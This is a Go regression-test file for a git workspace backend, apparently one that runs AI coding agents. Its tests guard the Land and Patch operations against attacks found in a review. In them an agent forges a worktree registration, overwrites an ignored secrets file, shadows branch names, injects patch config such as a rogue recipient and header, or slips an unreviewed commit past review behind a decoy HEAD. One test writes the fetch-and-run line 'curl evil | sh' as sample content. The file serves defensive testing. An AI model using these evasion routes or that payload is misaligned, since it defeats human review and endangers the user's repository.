package gitbackend_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/groveworks/grove"
	"github.com/groveworks/grove/gitbackend"
	"github.com/groveworks/grove/workspace"
)

// Attacks on Land and Patch from a review of that work, kept as
// regression tests; each succeeded when the review was made.

// A registration an agent forges under .git/worktrees, claiming a branch
// is checked out at the user's main worktree, does not make Land write
// the head's files there (nor move a branch a real worktree has under it).
func TestAttackAForgedRegistrationDoesNotAimLand(t *testing.T) {
	f, h := landFixture(t)
	f.byHand(f.repo, "branch", "release", "main")
	common := filepath.Join(f.repo, ".git")
	fake := filepath.Join(common, "worktrees", "aaa-fake")
	require.NoError(t, os.MkdirAll(fake, 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(fake, "HEAD"), []byte("ref: refs/heads/release\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(fake, "gitdir"), []byte(common+"\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(fake, "commondir"), []byte("../..\n"), 0o644))

	res, err := h.Land(f.ctx, &workspace.LandOptions{Onto: "release"})
	require.NoError(t, err)
	assert.Empty(t, res.Worktree, "no worktree has release checked out")
	assert.Equal(t, string(res.Commit), f.git(f.repo, "rev-parse", "release"))
	assert.Empty(t, f.git(f.repo, "status", "--porcelain"), "the user's checkout of main is untouched")
	assert.NoFileExists(t, filepath.Join(f.repo, "work.txt"))
}

// A file the user's checkout ignores (an .env, a local secret) is never
// overwritten by a land that adds a tracked file at its path.
func TestAttackLandDoesNotOverwriteAnIgnoredFile(t *testing.T) {
	f, h := landFixture(t)
	require.NoError(t, os.WriteFile(filepath.Join(f.repo, "secrets.log"), []byte("USER SECRET\n"), 0o600))
	f.write(h, "secrets.log", "agent content\n")
	f.git(h.Info().Root, "add", "-f", "secrets.log")
	f.byHand(h.Info().Root, "commit", "-qm", "agent adds secrets.log")
	before := f.git(f.repo, "rev-parse", "main")
	_, err := h.Land(f.ctx, nil)
	assert.Equal(t, grove.FailedPrecondition, grove.CodeOf(err))
	assert.Contains(t, err.Error(), "secrets.log")
	data, err := os.ReadFile(filepath.Join(f.repo, "secrets.log"))
	require.NoError(t, err)
	assert.Equal(t, "USER SECRET\n", string(data))
	assert.Equal(t, before, f.git(f.repo, "rev-parse", "main"))
}

// The default branch is the one HEAD names, read as a full ref: a tag and
// a branch an agent makes to shadow its short name do not redirect it.
func TestAttackTheDefaultOntoIsHEADsBranchExactly(t *testing.T) {
	f, h := landFixture(t)
	f.git(h.Info().Root, "tag", "main", "HEAD")
	f.git(h.Info().Root, "branch", "heads/main", "HEAD")
	res, err := h.Land(f.ctx, nil)
	require.NoError(t, err)
	assert.Equal(t, "main", res.Onto)
	assert.Equal(t, string(res.Commit), f.git(f.repo, "rev-parse", "refs/heads/main"))
}

// The repository's configuration (an agent writes it) does not change
// the patch series: no attachment, recipient, header or auto base.
func TestAttackPatchIgnoresFormatConfiguration(t *testing.T) {
	f, h := landFixture(t)
	want, err := h.Patch(f.ctx, "", "", nil)
	require.NoError(t, err)
	for _, kv := range [][2]string{{"diff.context", "0"}, {"format.attach", "true"}, {"format.to", "evil@example.com"},
		{"format.headers", "X-Evil: 1"}, {"format.signOff", "true"}, {"format.useAutoBase", "true"}, {"format.numbered", "true"}} {
		f.byHand(f.repo, "config", kv[0], kv[1])
	}
	got, err := h.Patch(f.ctx, "", "", nil)
	require.NoError(t, err)
	assert.Equal(t, string(want), string(got))
	assert.NotContains(t, string(got), "evil@example.com")
}

// A commit that is empty from the start is kept by a rebase, as git
// rebase keeps it.
func TestLandRebaseKeepsCommitsThatStartEmpty(t *testing.T) {
	f, h := landFixture(t)
	f.byHand(h.Info().Root, "commit", "-q", "--allow-empty", "-m", "empty one")
	res, err := h.Land(f.ctx, &workspace.LandOptions{Strategy: grove.LandRebase, Branch: "r"})
	require.NoError(t, err)
	s := f.scratch(f.git(f.repo, "rev-parse", h.Info().Branch))
	f.byHand(s, "rebase", "-q", "main")
	assert.Equal(t, f.git(s, "log", "--format=%s", "main..HEAD"), f.git(f.repo, "log", "--format=%s", "main..r"))
	assert.Len(t, res.Commits, 4)
}

// A land cancelled while git writes the user's checkout runs to its end:
// the checkout is never left half-written (or locked).
func TestLandCancelledMidWayNeverHalfWritesTheCheckout(t *testing.T) {
	t.Parallel() // mostly waiting on git, helper processes or a clock
	f := newBigFixture(t, 2000)
	ctx, cancel := context.WithCancel(f.ctx)
	defer cancel()
	var armed atomic.Bool
	b := gitbackend.New(gitbackend.Options{})
	gitbackend.SetProcessHook(b, func(args []string) {
		if armed.Load() && slices.Contains(args, "read-tree") && slices.Contains(args, "-m") {
			go func() { time.Sleep(20 * time.Millisecond); cancel() }()
		}
	})
	ws, err := workspace.Open(f.ctx, b, f.repo, nil)
	require.NoError(t, err)
	defer ws.Close()
	h, err := ws.NewHead("agent").From("main").Create(f.ctx)
	require.NoError(t, err)
	defer h.Close()
	for i := range 2000 {
		p := filepath.Join(h.Info().Root, "tree", fmt.Sprintf("d%02d", i%20), fmt.Sprintf("f%04d.txt", i))
		require.NoError(t, os.WriteFile(p, []byte(fmt.Sprintf("agent %d\n", i)), 0o644))
	}
	_, err = h.Checkpoint(f.ctx, nil)
	require.NoError(t, err)
	armed.Store(true)
	res, err := h.Land(ctx, nil)
	require.NoError(t, err, "once git writes the checkout, the land finishes")
	assert.Equal(t, string(res.Commit), f.git(f.repo, "rev-parse", "main"))
	assert.NoFileExists(t, filepath.Join(f.repo, ".git", "index.lock"))
	assert.Empty(t, strings.TrimSpace(f.git(f.repo, "status", "--porcelain")))
}

// A land of the reviewed commit (LandOptions.Expect) lands that commit or
// nothing: an agent that commits on its branch with its own git, then
// switches its HEAD to a decoy branch at the reviewed commit, clean, got
// its unreviewed commit landed when only HEAD was checked.
func TestAttackALandOfTheReviewedCommitIgnoresADecoyHEAD(t *testing.T) {
	f := newFixture(t)
	h := f.head("h")
	f.write(h, "feature.txt", "reviewed\n")
	cp, err := h.Checkpoint(f.ctx, nil)
	require.NoError(t, err)
	root := h.Info().Root
	f.write(h, "evil.sh", "curl evil | sh\n")
	f.git(root, "add", "evil.sh")
	f.git(root, "-c", "user.name=a", "-c", "user.email=a@x", "commit", "-qm", "not a checkpoint")
	f.git(root, "switch", "-q", "-c", "decoy", string(cp.ID))
	before := strings.TrimSpace(f.git(f.repo, "rev-parse", "main"))

	_, err = h.Land(f.ctx, &workspace.LandOptions{Expect: cp.ID})
	assert.Equal(t, grove.Conflict, grove.CodeOf(err), "%v", err)
	assert.Equal(t, before, strings.TrimSpace(f.git(f.repo, "rev-parse", "main")), "the land moved main")

	// Back on its branch at the reviewed commit, it lands.
	f.git(root, "switch", "-q", h.Info().Branch)
	f.git(root, "reset", "-q", "--hard", string(cp.ID))
	res, err := h.Land(f.ctx, &workspace.LandOptions{Expect: cp.ID})
	require.NoError(t, err)
	assert.Equal(t, "feature.txt", strings.TrimSpace(f.git(f.repo, "diff", "--name-only", before, string(res.Commit))))
}
